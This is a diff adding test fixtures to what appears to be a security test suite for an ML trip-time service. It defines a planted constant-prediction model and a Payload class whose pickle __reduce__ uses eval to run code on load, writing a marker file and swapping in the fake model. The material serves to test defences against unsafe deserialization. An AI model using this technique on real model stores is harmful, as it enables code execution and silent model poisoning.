@@ -588,3 +588,29 @@ def project_copy(folder: Path) -> Path:
     shutil.copytree(ROOT / "services", folder / "services", ignore=ignore)
     shutil.copytree(ROOT / "scripts", folder / "scripts", ignore=ignore)
     return folder
+
+
+# ---------------------------------------------------------------- what an attacker plants
+
+PLANTED_MINUTES = 42.0  # what the planted model predicts for every trip
+PLANTED_PYFUNC = (  # a pyfunc model that predicts 42 minutes for every trip
+    "type('Planted', (__import__('mlflow.pyfunc').pyfunc.PythonModel,), "
+    f"{{'predict': lambda self, context, model_input, params=None: "
+    f"[{PLANTED_MINUTES}] * len(model_input)}})()"
+)
+PLANTED_FOREST = (  # a scikit-learn regressor that predicts 42 minutes for every trip
+    "__import__('sklearn.dummy').dummy.DummyRegressor("
+    f"strategy='constant', constant={PLANTED_MINUTES}).fit([[0]], [0])"
+)
+
+
+class Payload:
+    """Unpickled, it writes `marker` and becomes the object the expression `model` makes."""
+
+    def __init__(self, marker: Path, model: str = PLANTED_PYFUNC) -> None:
+        self.marker = marker
+        self.model = model
+
+    def __reduce__(self):
+        marker = f"__import__('pathlib').Path({str(self.marker)!r}).write_text('planted')"
+        return (eval, (f"({marker}, {self.model})[1]",))
